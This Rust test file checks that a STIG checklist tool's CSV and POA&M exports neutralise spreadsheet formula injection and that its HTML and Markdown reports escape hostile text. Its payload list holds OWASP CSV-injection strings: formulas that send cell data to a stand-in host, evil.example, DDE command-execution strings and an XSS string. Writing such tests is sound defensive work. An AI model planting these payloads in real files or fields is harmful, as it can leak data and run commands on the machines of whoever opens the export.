//! CSV and POA&M exports open in Excel and LibreOffice: no cell may run
//! as a formula. The OWASP CSV-injection payloads go in through finding
//! details, comments, the host name and rule titles; every cell that
//! would start a formula comes out with a leading `'`, and the text is
//! otherwise whole. The HTML and Markdown reports of the same checklist
//! show the payloads as inert text.

mod common;

use common::*;
use stigkit::model::Status;

/// From OWASP's "CSV Injection" page and its test cases.
const PAYLOADS: [&str; 10] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"Click for details\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1<img src=x onerror=alert(1)>",
    "＝1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")",
];

const FORMULA_START: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

fn read_csv(path: &std::path::Path) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .unwrap();
    r.records()
        .map(|rec| rec.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// A real checklist with a payload in each hostile field of ten rules,
/// all Open so the POA&M lists them.
fn hostile_checklist(dir: &std::path::Path) -> std::path::PathBuf {
    let mut c = stigkit::source::load_checklist(&data("ckl/saf/vSphere8_report.ckl"))
        .unwrap()
        .checklist;
    c.asset.host_name = PAYLOADS[4].into();
    for (i, p) in PAYLOADS.iter().enumerate() {
        let r = &mut c.stigs[0].rules[i];
        r.review.status = Status::Open;
        r.review.finding_details = (*p).into();
        r.review.comments = format!("{p}\nsecond line");
        r.rule.title = (*p).into();
    }
    let out = dir.join("hostile.ckl");
    stigkit::output::write_checklist(&out, &c, false).unwrap();
    out
}

fn assert_no_formula(what: &str, rows: &[Vec<String>]) -> usize {
    let mut neutralised = 0;
    for row in rows {
        for cell in row {
            assert!(
                !cell.starts_with(FORMULA_START),
                "{what}: a cell starts a formula: {cell:?}"
            );
            if let Some(rest) = cell.strip_prefix('\'') {
                neutralised += usize::from(rest.starts_with(FORMULA_START));
            }
        }
    }
    neutralised
}

#[test]
fn no_export_cell_starts_a_formula() {
    let dir = tempdir();
    let ckl = hostile_checklist(dir.path());
    for format in ["csv", "poam"] {
        let out = dir.path().join(format!("out-{format}.csv"));
        run_ok(&[
            "export",
            ckl.to_str().unwrap(),
            "--format",
            format,
            "-o",
            out.to_str().unwrap(),
        ]);
        let rows = read_csv(&out);
        let neutralised = assert_no_formula(format, &rows);
        // Every payload is still there, whole: in CSV as a cell of its own
        // behind its quote; in the POA&M, whose description cell holds the
        // title then the details, inside a cell.
        let cells: Vec<&String> = rows.iter().flatten().collect();
        for p in PAYLOADS {
            let kept = match format {
                "csv" => cells.iter().any(|c| c.as_str() == format!("'{p}")),
                _ => cells.iter().any(|c| c.contains(p)),
            };
            assert!(kept, "{format}: payload {p:?} not kept whole");
        }
        // CSV: title, details and comments of ten rules; POA&M: the
        // description cell (title first) of each of the ten items.
        let least = if format == "csv" { 30 } else { 10 };
        assert!(
            neutralised >= least,
            "{format}: {neutralised} cells neutralised"
        );
    }
}

#[test]
fn reports_show_the_payloads_as_text() {
    let dir = tempdir();
    let ckl = hostile_checklist(dir.path());
    let html = dir.path().join("r.html");
    let md = dir.path().join("r.md");
    for out in [&html, &md] {
        run_ok(&["report", ckl.to_str().unwrap(), "-o", out.to_str().unwrap()]);
    }
    let html = std::fs::read_to_string(html).unwrap();
    assert!(!html.contains("<img src=x"), "raw HTML in the page");
    assert!(html.contains("=1+1&lt;img src=x onerror=alert(1)&gt;"));
    assert!(
        html.contains("=HYPERLINK(&quot;http:&#x2f;&#x2f;evil.example&#x2f;?leak=&quot;&amp;A1")
    );
    let md = std::fs::read_to_string(md).unwrap();
    assert!(!md.contains("<img src=x"), "raw HTML in the Markdown");
    assert!(
        md.contains("=cmd\\|' /C calc'!A0"),
        "table pipes not escaped"
    );
}
